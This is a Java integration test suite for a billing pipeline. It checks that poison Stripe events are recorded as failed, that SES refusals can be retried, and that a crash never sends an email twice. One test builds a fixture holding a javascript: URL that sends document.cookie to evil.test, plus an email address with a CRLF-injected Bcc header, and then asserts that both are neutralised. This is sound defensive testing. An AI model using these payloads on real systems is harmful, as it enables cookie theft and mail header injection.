package app.billing.provisioning;

import static app.billing.testkit.story.Story.CUSTOMER;
import static app.billing.testkit.story.Story.TENANT;
import static org.assertj.core.api.Assertions.assertThat;

import app.billing.core.model.AuditEntry;
import app.billing.core.model.FailedEvent;
import app.billing.core.model.Outcome;
import app.billing.core.model.PaymentRecord;
import app.billing.core.provisioning.FailedEventRetry;
import app.billing.provisioning.StoryEvents.StoryEvent;
import app.billing.testkit.EmbeddedSqs;
import app.billing.testkit.SesStandIn.SentEmail;
import app.billing.testkit.SqsEventSource;
import app.billing.testkit.story.Story;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import software.amazon.awssdk.services.dynamodb.model.QueryRequest;
import software.amazon.awssdk.services.sqs.model.MessageAttributeValue;
import software.amazon.awssdk.services.sqs.model.QueueAttributeName;

/**
 * Permanent failures through the real engines (ElasticMQ, dynalite, Stripe and SES stand-ins): the
 * poison event is recorded as failed and acknowledged, its customer's healthy events go on within
 * the same receive; a refused or hostile email never undoes its record; a crash after SES accepted
 * an email never sends it twice.
 */
class ProvisioningFailuresIT extends PipelineTestSupport {
  private static final String MISSING_SESSION = "cs_test_MissingSession01";

  /** The story's one-time purchase, for a session Stripe no longer knows (line items → 404). */
  private static StoryEvent poisonPurchase() {
    return StoryEvents.variant(
        StoryEvents.event(Story.CREDITS_PURCHASED),
        "evt_PoisonPurchase01",
        json -> StoryEvents.dataObject(json).addProperty("id", MISSING_SESSION));
  }

  /** A renewal invoice.paid of the story's customer with its own event and invoice ids. */
  private static StoryEvent healthyInvoicePaid(int n) {
    StoryEvent base = StoryEvents.event(Story.FIRST_INVOICE_PAID);
    return StoryEvents.variant(
        base,
        "evt_HealthyPaid0" + n,
        json -> {
          json.addProperty("created", base.created() + 100 * n);
          StoryEvents.dataObject(json).addProperty("id", "in_HealthyPaid0" + n);
        });
  }

  @Test
  void aPoisonEventOfACustomerIsRecordedFailedAndItsHealthyEventsAreAppliedWithinOneReceive() {
    Pipeline.Wired wired = pipeline.wire();
    EmbeddedSqs.Queues queues =
        pipeline.sqs.createFifoQueueWithDlq(
            "poison-and-healthy.fifo", "poison-and-healthy-dlq.fifo", 5, 30);
    pipeline.stripe.stubStatus(
        "GET",
        "/v1/checkout/sessions/" + MISSING_SESSION + "/line_items",
        404,
        """
        {"error": {"type": "invalid_request_error", "code": "resource_missing",
         "message": "No such checkout.session: '%s'", "param": "id"}}"""
            .formatted(MISSING_SESSION));
    StoryEvent linking = StoryEvents.event(Story.TRIAL_CHECKOUT_COMPLETED);
    pipeline.send(queues.queueUrl(), linking, linking.id());
    pipeline.drain(wired, queues.queueUrl());
    pipeline.ses.reset();

    StoryEvent poison = poisonPurchase();
    List<StoryEvent> healthy =
        List.of(healthyInvoicePaid(1), healthyInvoicePaid(2), healthyInvoicePaid(3));
    pipeline.send(queues.queueUrl(), poison, poison.id());
    healthy.forEach(e -> pipeline.send(queues.queueUrl(), e, e.id()));
    List<String> receiveCounts = Collections.synchronizedList(new ArrayList<>());
    SqsEventSource source =
        new SqsEventSource(
            pipeline.sqs.client(),
            queues.queueUrl(),
            event -> {
              event
                  .getRecords()
                  .forEach(
                      m -> receiveCounts.add(m.getAttributes().get("ApproximateReceiveCount")));
              return wired.handler().handleRequest(event, null);
            });

    // One receive of the customer's group (FIFO hands its messages over in order, up to 10).
    assertThat(source.pollOnce(Duration.ofSeconds(2))).isEqualTo(4);

    assertThat(receiveCounts).containsExactly("1", "1", "1", "1");
    assertThat(wired.store().payments(TENANT))
        .extracting(PaymentRecord::paymentId)
        .containsExactlyInAnyOrder("in_HealthyPaid01", "in_HealthyPaid02", "in_HealthyPaid03");
    assertThat(pipeline.ses.sentEmails())
        .extracting(SentEmail::subject)
        .hasSize(3)
        .allSatisfy(subject -> assertThat(subject).startsWith("Your Acme receipt"));
    FailedEvent failed = wired.store().failedEvent(poison.id()).orElseThrow();
    assertThat(failed.reason()).isEqualTo("stripe_404_resource_missing");
    assertThat(failed.customerId()).isEqualTo(CUSTOMER);
    assertThat(failed.tenantId()).isEqualTo(TENANT);
    assertThat(failed.eventType()).isEqualTo("checkout.session.completed");
    assertThat(failed.payload()).isEqualTo(poison.payload());
    assertThat(audit(wired, poison.id()))
        .satisfies(
            a -> {
              assertThat(a.outcome()).isEqualTo(Outcome.FAILED);
              assertThat(a.reason()).isEqualTo("stripe_404_resource_missing");
            });
    // Nothing left in flight or visible, nothing dead-lettered.
    Map<QueueAttributeName, String> attributes =
        pipeline
            .sqs
            .client()
            .getQueueAttributes(
                r ->
                    r.queueUrl(queues.queueUrl())
                        .attributeNames(
                            QueueAttributeName.APPROXIMATE_NUMBER_OF_MESSAGES,
                            QueueAttributeName.APPROXIMATE_NUMBER_OF_MESSAGES_NOT_VISIBLE))
            .attributes();
    assertThat(attributes)
        .containsEntry(QueueAttributeName.APPROXIMATE_NUMBER_OF_MESSAGES, "0")
        .containsEntry(QueueAttributeName.APPROXIMATE_NUMBER_OF_MESSAGES_NOT_VISIBLE, "0");
    assertThat(pipeline.sqs.client().receiveMessage(r -> r.queueUrl(queues.dlqUrl())).messages())
        .isEmpty();
  }

  @Test
  void anEmailRefusedBySesLeavesItsRecordAppliedAndARetryOfTheFailedEventSendsIt() {
    Pipeline.Wired wired = pipeline.wire();
    EmbeddedSqs.Queues queues =
        pipeline.sqs.createFifoQueueWithDlq("ses-refused.fifo", "ses-refused-dlq.fifo", 5, 1);
    List<StoryEvent> firstTwo =
        StoryEvents.events(List.of(Story.TRIAL_CHECKOUT_COMPLETED, Story.TRIAL_STARTED));
    pipeline.ses.failNext(1, 400, "MessageRejected");
    firstTwo.forEach(e -> pipeline.send(queues.queueUrl(), e, e.id()));

    pipeline.drain(wired, queues.queueUrl());

    StoryEvent created = firstTwo.get(1);
    assertThat(wired.store().subscription(TENANT))
        .get()
        .extracting(s -> s.status())
        .isEqualTo("trialing");
    assertThat(pipeline.ses.sentEmails()).isEmpty();
    FailedEvent failed = wired.store().failedEvent(created.id()).orElseThrow();
    assertThat(failed.stage()).isEqualTo(FailedEvent.Stage.EMAIL);
    assertThat(failed.emails()).containsExactly("welcome");
    assertThat(failed.reason()).contains("ses_400_MessageRejected");
    assertThat(audit(wired, created.id()).outcome()).isEqualTo(Outcome.APPLIED);
    assertThat(pipeline.sqs.client().receiveMessage(r -> r.queueUrl(queues.dlqUrl())).messages())
        .isEmpty();

    // What admin failed retry sends.
    pipeline
        .sqs
        .client()
        .sendMessage(
            r ->
                r.queueUrl(queues.queueUrl())
                    .messageBody(failed.payload())
                    .messageGroupId(FailedEventRetry.messageGroupId(failed))
                    .messageDeduplicationId(FailedEventRetry.deduplicationId(failed))
                    .messageAttributes(
                        Map.of(
                            FailedEventRetry.ATTRIBUTE,
                            MessageAttributeValue.builder()
                                .dataType("String")
                                .stringValue(failed.eventId())
                                .build())));
    pipeline.drain(wired, queues.queueUrl());

    assertThat(pipeline.ses.sentEmails())
        .extracting(SentEmail::subject)
        .containsExactly("Welcome to Acme Starter");
    assertThat(wired.store().failedEvents()).isEmpty();
  }

  @Test
  void aHostileLinkIsNotRenderedAndAHostileRecipientIsNeverUsed() {
    Pipeline.Wired wired = pipeline.wire();
    StoryEvent paid =
        StoryEvents.variant(
            StoryEvents.event(Story.FIRST_INVOICE_PAID),
            "evt_HostilePaid01",
            json -> {
              StoryEvents.dataObject(json)
                  .addProperty(
                      "hosted_invoice_url", "javascript:fetch('//evil.test/'+document.cookie)");
              StoryEvents.dataObject(json)
                  .addProperty("customer_email", "ada@lovelace.dev\r\nBcc: eve@evil.test");
            });

    assertThat(
            wired
                .deliver(
                    List.of(
                        StoryEvents.event(Story.TRIAL_CHECKOUT_COMPLETED),
                        StoryEvents.event(Story.TRIAL_STARTED),
                        paid))
                .getBatchItemFailures())
        .isEmpty();

    SentEmail receipt =
        pipeline.ses.sentEmails().stream()
            .filter(e -> e.subject().startsWith("Your Acme receipt"))
            .findFirst()
            .orElseThrow();
    assertThat(receipt.html())
        .doesNotContain("javascript", "evil.test")
        .contains("https://app.acme.test/billing");
    assertThat(receipt.text()).doesNotContain("javascript", "evil.test");
    // The event's address is not one address: the customer's address on file is used instead.
    assertThat(receipt.to())
        .singleElement()
        .satisfies(to -> assertThat(to).doesNotContain("evil", "\r", "\n"));
    assertThat(wired.store().failedEvents()).isEmpty();
  }

  @Test
  void aCrashAfterSesAcceptedAnEmailNeverSendsItAgainEvenAfterTheClaimsLeaseRanOut()
      throws Exception {
    // Every BatchWriteItem of the first container fails (beyond the SDK's retries): the batch's end
    // never happens, as when the function times out or runs out of memory after sending.
    FaultInjection crashAtBatchEnd = new FaultInjection("BatchWriteItem", 1, 1_000);
    Pipeline.Wired first = pipeline.wire();
    Pipeline.Wired crashing =
        pipeline.wireOn(first.table(), Duration.ofSeconds(1), crashAtBatchEnd);
    List<StoryEvent> upToFirstReceipt =
        StoryEvents.events(
            Story.between(
                Story.TRIAL_CHECKOUT_COMPLETED,
                Story.FIRST_INVOICE_PAID)); // welcome, trial ending, receipt

    assertThat(crashing.deliver(upToFirstReceipt).getBatchItemFailures())
        .hasSize(upToFirstReceipt.size());
    List<String> sentBeforeCrash =
        pipeline.ses.sentEmails().stream().map(SentEmail::subject).toList();
    assertThat(sentBeforeCrash)
        .containsExactly(
            "Welcome to Acme Starter",
            "Your Acme trial ends on September 15, 2026",
            "Your Acme receipt: $19.00");

    // The claims' 1 s lease runs out; the redelivery reaches a fresh container (nothing cached).
    Thread.sleep(3_500);
    Pipeline.Wired restarted = pipeline.wireOn(first.table(), Duration.ofSeconds(1));
    assertThat(restarted.deliver(upToFirstReceipt).getBatchItemFailures()).isEmpty();

    assertThat(pipeline.ses.sentEmails())
        .extracting(SentEmail::subject)
        .containsExactlyElementsOf(sentBeforeCrash);
    assertThat(crashAtBatchEnd.failed()).isPositive();
  }

  private static AuditEntry audit(Pipeline.Wired wired, String eventId) {
    return pipeline
        .dynamo
        .query(
            QueryRequest.builder()
                .tableName(wired.table())
                .keyConditionExpression("pk = :pk")
                .expressionAttributeValues(
                    Map.of(
                        ":pk",
                        software.amazon.awssdk.services.dynamodb.model.AttributeValue.fromS(
                            "TENANT#" + TENANT)))
                .build())
        .items()
        .stream()
        .filter(
            item ->
                item.get("sk").s().startsWith("EVENT#")
                    && item.get("sk").s().endsWith("#" + eventId))
        .map(app.billing.dynamodb.EventItems::audit)
        .findFirst()
        .orElseThrow();
  }
}
